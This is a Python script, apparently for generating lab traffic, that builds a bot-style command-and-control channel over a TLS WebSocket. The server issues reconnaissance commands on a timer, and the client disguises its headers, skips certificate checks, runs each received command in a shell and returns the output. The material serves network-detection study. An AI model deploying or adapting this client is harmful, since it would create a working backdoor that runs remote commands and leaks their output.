#!/usr/bin/python3
"""f6-websocket-c2: a C2 channel in one WebSocket over TLS (wss://, python3-websockets), the shape of bots that
keep a socket open to their panel: the device registers, answers pings, receives a task every 6-12 s, runs it and
sends the output back, over one long-lived connection, until SECONDS have passed.
server (the victim's namespace): argv = server IP PORT CERT KEY
client (the device): argv = client URL SECONDS"""
import asyncio, json, os, random, ssl, subprocess, sys, time

import websockets

TASKS = ["id", "uname -a", "cat /proc/loadavg", "ls /tmp", "ps | head -5", "ip -4 addr | head -6",
         "df -h | head -4", "cat /etc/hostname", "uptime", "free | head -3"]


async def serve(ws, path=None):
    rnd = random.Random(7)
    hello = json.loads(await ws.recv())
    n = 0
    try:
        while True:
            await asyncio.sleep(rnd.uniform(6, 12))
            n += 1
            await ws.send(json.dumps({"op": "task", "id": n, "cmd": rnd.choice(TASKS), "bot": hello.get("bot")}))
            await ws.recv()
    except websockets.ConnectionClosed:
        pass


async def server(ip, port, cert, key):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(cert, key)
    async with websockets.serve(serve, ip, port, ssl=ctx, ping_interval=15):
        await asyncio.Future()


async def client(url, seconds):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t0 = time.time()
    async with websockets.connect(url, ssl=ctx, ping_interval=20, user_agent_header="Mozilla/5.0",
                                  extra_headers={"Origin": "https://panel.example"}) as ws:
        await ws.send(json.dumps({"op": "hello", "bot": os.urandom(6).hex(), "arch": "armv7l", "v": "2.3"}))
        while time.time() - t0 < seconds:
            try:
                m = json.loads(await asyncio.wait_for(ws.recv(), timeout=max(1, seconds - (time.time() - t0))))
            except asyncio.TimeoutError:
                break
            out = subprocess.run(["sh", "-c", m["cmd"]], capture_output=True, timeout=5).stdout[:2000]
            await ws.send(json.dumps({"op": "result", "id": m["id"], "out": out.decode(errors="replace")}))


if sys.argv[1] == "server":
    asyncio.run(server(sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]))
else:
    asyncio.run(client(sys.argv[2], float(sys.argv[3])))
